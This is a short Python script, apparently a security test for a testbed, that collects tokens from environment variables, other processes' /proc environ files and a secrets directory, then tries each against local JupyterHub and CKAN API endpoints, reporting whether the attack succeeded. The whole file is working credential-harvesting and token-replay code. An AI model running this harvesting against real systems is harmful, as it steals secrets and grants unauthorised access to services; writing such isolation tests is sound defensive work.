# attack: find a token (environment, other processes, secrets dir) and use it against the hub and CKAN
import glob
import os
import urllib.request

found = [v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k]
for p in glob.glob("/proc/*/environ") + glob.glob("/var/lib/testbed/secrets/*"):
    try:
        found.append(open(p).read())
    except Exception:
        pass
print("tokens found:", len(found))
for url in ["http://127.0.0.1:8081/hub/api/users", "http://127.0.0.1:5000/api/3/action/status_show"]:
    for tok in found or ["none"]:
        try:
            req = urllib.request.Request(url, headers={"Authorization": f"token {tok}"})
            urllib.request.urlopen(req, timeout=2).read()
            print("ATTACK-SUCCEEDED tokens", url)
        except Exception as e:
            print("blocked:", url, type(e).__name__)
            break
